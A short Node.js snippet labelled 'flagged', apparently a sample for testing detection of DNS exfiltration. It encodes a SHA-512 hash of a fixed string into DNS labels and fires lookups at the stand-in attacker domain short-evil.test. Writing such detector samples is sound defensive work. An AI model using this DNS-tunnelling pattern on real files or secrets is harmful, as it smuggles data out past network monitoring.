// flagged: node
import { createHash } from "node:crypto";
import { Resolver } from "node:dns/promises";

const resolver = new Resolver({ timeout: 1000, tries: 1 });
const text = createHash("sha512").update("a file").digest("hex");
const names = [0, 64].map(
  (at) =>
    `${text
      .slice(at, at + 64)
      .match(/.{1,8}/g)
      .join(".")}.short-evil.test`,
);
await Promise.all(
  [...names, ...names.map((name) => `x.${name}`)].map((name) =>
    resolver.resolve4(name).catch(() => []),
  ),
);
